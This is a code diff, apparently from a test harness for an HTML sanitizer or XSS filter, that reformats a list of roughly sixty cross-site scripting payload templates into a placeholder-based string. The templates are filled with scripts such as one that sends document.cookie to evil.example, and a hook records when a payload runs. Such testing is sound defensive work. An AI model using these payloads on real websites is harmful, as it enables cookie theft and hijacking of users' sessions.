@@ -16,32 +16,69 @@ SCRIPTS = [
     "fetch('https://evil.example/'+document.cookie)",
     "location='https://evil.example/'",
 ]
-FORMS = [
-    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script/x>{0}</script>", "<script type=module>{0}</script>",
-    "<scr<script>ipt>{0}</scr</script>ipt>", "</script><script>{0}</script>", "</title><script>{0}</script>",
-    "<img src=x onerror={0}>", "<img src=x onerror=\"{0}\">", "<img/src=x/onerror={0}>", "<img src=`x` onerror={0}>",
-    "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
-    "<svg><foreignObject><body onload={0}></foreignObject></svg>", "<math><mtext><img src=x onerror={0}></mtext></math>",
-    "<math><style><img src=x onerror={0}></style></math>", "<body onload={0}>", "<body onpageshow={0}>",
-    "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>",
-    "<video><source onerror={0}></video>", "<video src=x onerror={0}>", "<audio src=x onerror={0}>",
-    "<iframe src=\"javascript:{0}\"></iframe>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
-    "<embed src=\"javascript:{0}\">", "<object data=\"javascript:{0}\"></object>", "<a href=\"javascript:{0}\">x</a>",
-    "<form action=\"javascript:{0}\"><button autofocus>x</button></form>", "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<link rel=stylesheet href=https://evil.example/>",
-    "<style>@import 'https://evil.example/'; body{{background:url(https://evil.example/)}}</style>",
-    "<p style=\"background:url(https://evil.example/)\">x</p>", "<p style=\"background:u\\72l(https://evil.example/)\">x</p>",
-    "<p style=\"width:expression({0})\">x</p>", "<p style=\"background-image:image-set('https://evil.example/' 1x)\">x</p>",
-    "<img src=https://evil.example/pixel.png>", "<img srcset=\"https://evil.example/ 1x\">",
-    "<table background=https://evil.example/><tr><td>x</table>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
-    "<template><script>{0}</script></template>", "<marquee onstart={0}>x</marquee>", "<x onclick={0} tabindex=1 id=x autofocus>",
-    "\"><script>{0}</script>", "'><img src=x onerror={0}>", "javascript:{0}", "data:text/html,<script>{0}</script>",
-    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
-    "&lt;script&gt;{0}&lt;/script&gt;", "<!--><script>{0}</script>-->", "<![CDATA[<script>{0}</script>]]>",
-    "<button form=x formaction=\"javascript:{0}\">", "<isindex type=image src=1 onerror={0}>",
-    "<object type=\"text/html\" data=\"https://evil.example/\"></object>", "<portal src=https://evil.example/>",
-]  # fmt: skip
-PAYLOADS = [form.format(script) for form in FORMS for script in SCRIPTS]
+FORMS = r"""
+<script>HERE</script>
+<ScRiPt>HERE</sCrIpT>
+<script/x>HERE</script>
+<script type=module>HERE</script>
+<scr<script>ipt>HERE</scr</script>ipt>
+</script><script>HERE</script>
+</title><script>HERE</script>
+<img src=x onerror=HERE>
+<img src=x onerror="HERE">
+<img/src=x/onerror=HERE>
+<img src=`x` onerror=HERE>
+<svg onload=HERE>
+<svg><script>HERE</script></svg>
+<svg><animate onbegin=HERE attributeName=x dur=1s>
+<svg><foreignObject><body onload=HERE></foreignObject></svg>
+<math><mtext><img src=x onerror=HERE></mtext></math>
+<math><style><img src=x onerror=HERE></style></math>
+<body onload=HERE>
+<body onpageshow=HERE>
+<details open ontoggle=HERE>x</details>
+<input autofocus onfocus=HERE>
+<select autofocus onfocus=HERE>
+<video><source onerror=HERE></video>
+<video src=x onerror=HERE>
+<audio src=x onerror=HERE>
+<iframe src="javascript:HERE"></iframe>
+<iframe srcdoc="<script>HERE</script>"></iframe>
+<embed src="javascript:HERE">
+<object data="javascript:HERE"></object>
+<a href="javascript:HERE">x</a>
+<form action="javascript:HERE"><button autofocus>x</button></form>
+<base href="https://evil.example/">
+<meta http-equiv=refresh content="0;url=https://evil.example/">
+<link rel=stylesheet href=https://evil.example/>
+<style>@import 'https://evil.example/'; body{background:url(https://evil.example/)}</style>
+<p style="background:url(https://evil.example/)">x</p>
+<p style="background:u\72l(https://evil.example/)">x</p>
+<p style="width:expression(HERE)">x</p>
+<p style="background-image:image-set('https://evil.example/' 1x)">x</p>
+<img src=https://evil.example/pixel.png>
+<img srcset="https://evil.example/ 1x">
+<table background=https://evil.example/><tr><td>x</table>
+<noscript><p title="</noscript><img src=x onerror=HERE>">
+<template><script>HERE</script></template>
+<marquee onstart=HERE>x</marquee>
+<x onclick=HERE tabindex=1 id=x autofocus>
+"><script>HERE</script>
+'><img src=x onerror=HERE>
+javascript:HERE
+data:text/html,<script>HERE</script>
+{{constructor.constructor('HERE')()}}
+${HERE}
+\u003cscript\u003eHERE\u003c/script\u003e
+&lt;script&gt;HERE&lt;/script&gt;
+<!--><script>HERE</script>-->
+<![CDATA[<script>HERE</script>]]>
+<button form=x formaction="javascript:HERE">
+<isindex type=image src=1 onerror=HERE>
+<object type="text/html" data="https://evil.example/"></object>
+<portal src=https://evil.example/>
+""".strip().splitlines()
+PAYLOADS = [form.replace("HERE", script) for form in FORMS for script in SCRIPTS]
 HOOK = """
 window.ran = [];
 window.pwned = () => window.ran.push('pwned');
